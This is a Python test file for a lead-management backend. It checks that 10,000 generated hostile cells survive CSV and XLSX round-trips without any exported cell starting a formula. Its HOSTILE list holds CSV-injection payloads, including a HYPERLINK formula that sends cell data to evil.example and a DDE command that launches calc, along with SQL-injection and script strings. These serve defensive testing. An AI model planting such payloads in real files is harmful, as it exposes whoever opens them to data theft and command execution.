"""10,000 hostile cells go in and out again: nothing starts a formula, all come back the same."""

import csv
import io
import random
import re
from typing import cast
from unicodedata import category, normalize
from zipfile import ZipFile

import pytest
from sqlalchemy import delete
from sqlmodel import SQLModel

from backend.core import sheets
from backend.core.centers import CENTER_COLUMN
from backend.core.imports.upload import upload
from backend.core.leads import export_files
from backend.core.leads.export_files import Form
from backend.core.sheets import formulas
from backend.models import Import, ImportRow, Lead, LeadEvent, LeadOrigin
from backend.schemas.imports import Imported
from tests.servers import Client, Upload
from tests.world import World

ROWS = 2000
NAMES = ("player_name", "player_age_category", "phone", "email", "address_and_pincode")
# The columns of an export.
OURS = ("Player", "Age category", "Phone", "Email", "Address")
HOSTILE = (
    '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "\n=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "==1", "+", "-", "@",
    "=", "''=1", "'", "''", "'x", "\"=1\"", '"', '""', ",", ";", "\t", ";=1", "a,=1", "a\n=1",
    "a\r\n=1", "a\r=1", "%0A=1", "sep=;", "\u200b=1", "\ufeff=1", "\u202e=1", "\u2028x", "\x0b=1",
    "\x1f", "\x01\x02", "\x7f", "\x85=1", "\u0301", "e\u0301", "👩‍👧‍👦", "\U0010fffd", "\ufffd",
    "_x0041_", "_x000D_", "&amp;<b>]]>", "{=1}", "#N/A", "NaN", "null", "None", "NA", "TRUE",
    "0098480", "+91 98480 22338", "1e10", "12.50", "=" * 300, "+" + "9" * 400, "\\N", "\\", "%s",
    "{}", "$1", "'; DROP TABLE lead; --", "<script>alert(1)</script>", "l:1", "p:", "ag:1",
    "x" * 9000, "é" * 3000, "=" + "\n" * 500 + "1", "🏆" * 2000,
)  # fmt: skip
# By which a program knows a formula, told here once more: what is under test must not say it.
STARTS = ("=", "+", "-", "@", "\t", "\r")
# What a text file or a worksheet can't hold, or takes for a blank cell.
BLANK = re.compile(r"[\s\u00a0]*")


def grid() -> list[list[str]]:
    """The cells, each row with a name and a phone of its own."""
    chance = random.Random(3)
    made = []
    for number in range(ROWS):
        texts = [mixed(chance) for _ in NAMES]
        texts[0] = f"{texts[0]}{number}"
        texts[2] = (
            f"{chance.choice(('+', '=', '-', '@', chr(9), '', '00', '+91 '))}98480{number:05}"
        )
        made.append(texts)
    return made


def mixed(chance: random.Random) -> str:
    pieces = [chance.choice(HOSTILE) for _ in range(chance.choice((1, 1, 1, 2)))]
    return "".join(pieces).strip(" \u00a0")[:30_000]


def kept(texts: list[str]) -> list[str]:
    """What is to be kept of cells: those of white space alone are blank, a phone is in E.164.

    A web page's `&amp;` is what it shows, and a database's `\\N` a blank cell. And a name is as it
    is seen: without control and format characters, and in one line.
    """
    texts = ["" if text == "\\N" else text.replace("&amp;", "&") for text in texts]
    cells = ["" if BLANK.fullmatch(text) else formulas.restore(text) for text in texts]
    seen = "".join(" " if char.isspace() else char for char in cells[0] if is_seen(char))
    cells[0] = " ".join(normalize("NFC", seen).split())
    # A number of Iran that is too short can't be read, and stays as it is.
    if not cells[2].startswith("+9848"):
        cells[2] = f"+91{cells[2][-10:]}"
    return cells


def is_seen(char: str) -> bool:
    return char.isspace() or category(char) not in ("Cc", "Cf") or char == "\u200d"


def as_csv(texts: list[list[str]]) -> str:
    file = io.StringIO(newline="")
    writer = csv.writer(file)
    writer.writerow((*NAMES, CENTER_COLUMN))
    writer.writerows([*row, "TOFA Tellapur"] for row in texts)
    return file.getvalue()


def send(world: World, content: bytes, name: str = "leads.csv") -> int:
    """Imports a file into a database without leads, and answers how many it has made."""
    tables: tuple[type[SQLModel], ...] = (LeadOrigin, LeadEvent, ImportRow, Import, Lead)
    with world.db.write() as session:
        for table in tables:
            session.connection().execute(delete(table))
    answer = upload(world.db, world.settings, None, name, content)
    assert answer["status"] == "success", answer
    return cast(Imported, answer)["leads_added"]


def out(world: World, form: Form = Form.CSV) -> bytes:
    file = io.BytesIO()
    export_files.to_stream(world.db, world.settings, file, form)
    return file.getvalue()


def read(content: bytes, name: str) -> list[list[str]]:
    """Return the raw cells of a file."""
    table = sheets.read_table(content, name)
    places = [table.columns.index(one) for one in OURS]
    found = [[str(row[at] or "") for at in places] for _, row in table.rows]
    for texts in found:
        if texts[2].startswith(("+91 ", "(+91) ")):
            texts[2] = re.sub("[() ]", "", texts[2])
    return found


def restored(rows: list[list[str]]) -> list[list[str]]:
    return [[formulas.restore(text) for text in row] for row in rows]


def test_they_come_back_the_same(world: World) -> None:
    texts = grid()
    expected = [kept(row) for row in texts]
    assert sum(len(row) for row in texts) == 10_000
    assert send(world, as_csv(texts).encode()) == ROWS

    first = out(world)
    raw = list(csv.reader(io.StringIO(first.decode(), newline="")))[1:]
    assert not [text for row in raw for text in row if text.startswith(STARTS)]
    assert restored(read(first, "leads.csv")) == expected
    assert send(world, first) == ROWS
    assert out(world) == first

    book = out(world, Form.XLSX)
    with ZipFile(io.BytesIO(book)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    dates = re.findall(r'<c r="B\d+" s="\d"><v>4\d{4}\.', sheet)
    assert sheet.count("<c ") == sheet.count('t="inlineStr"') + len(dates)
    # A row that only its time can tell from others has that as an exact text.
    assert len(dates) == ROWS - sum(row[2].startswith("+9848") for row in expected)
    assert restored(read(book, "leads.xlsx")) == expected
    assert send(world, book, "leads.xlsx") == ROWS
    assert out(world) == first


def test_they_come_back_the_same_from_each_server(lead: Client) -> None:
    """Planned, committed and exported; and nothing is new when the export is sent again."""
    texts = grid()
    planned = lead.post("/imports/", file=Upload("leads.csv", as_csv(texts).encode())).json()
    assert planned["totals"]["create"] + planned["totals"]["sibling"] == ROWS, planned
    assert lead.post(f"/imports/{planned['id']}/commit").status == 200

    files = {name: lead.get(f"/leads/export.{name}").body for name in ("csv", "xlsx")}
    # The two leads that the academy begins with come first.
    expected = [kept(row) for row in texts]
    for name, content in files.items():
        assert restored(read(content, f"leads.{name}"))[2:] == expected, name
        answer = lead.post("/leads/upload/", file=Upload(f"leads.{name}", content)).json()
        unread = answer.pop("warnings")
        assert answer == {"status": "success", "leads_added": 0, "already_here": ROWS + 2}
        assert len(unread) == sum(row[2].startswith("+9848") for row in expected)
    raw = list(csv.reader(io.StringIO(files["csv"].decode("utf-8-sig"), newline="")))[1:]
    assert not [text for row in raw for text in row if text.startswith(STARTS)]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "cp1252"])
@pytest.mark.parametrize("database", ["sqlite"], indirect=True)
def test_in_whatever_encoding(world: World, encoding: str) -> None:
    """What an encoding does not have, it can't bring; the rest comes through."""
    texts = [
        [text.encode(encoding.removesuffix("-sig"), "ignore").decode(encoding.removesuffix("-sig"))
         for text in row]
        for row in grid()
    ]  # fmt: skip
    assert send(world, as_csv(texts).encode(encoding)) == ROWS
    found, expected = restored(read(out(world), "leads.csv")), [kept(row) for row in texts]
    differing = [
        (one, other)
        for row, wanted in zip(found, expected, strict=True)
        for one, other in zip(row, wanted, strict=True)
        if one != other
    ]
    assert differing == []


@pytest.mark.parametrize("database", ["sqlite"], indirect=True)
def test_bytes_that_are_no_text(world: World) -> None:
    """A file is read in one encoding or refused, and what was read comes back."""
    chance = random.Random(5)
    for _ in range(30):
        name = bytes(chance.choice(range(128, 256)) for _ in range(20))
        rows = b"".join(b"%s %d,98480%05d,TOFA Tellapur\n" % (name, n, n) for n in range(3))
        content = f"player_name,phone,{CENTER_COLUMN}\n".encode() + rows
        made = send(world, content)
        first = out(world)
        assert send(world, first) == made > 0
        assert out(world) == first
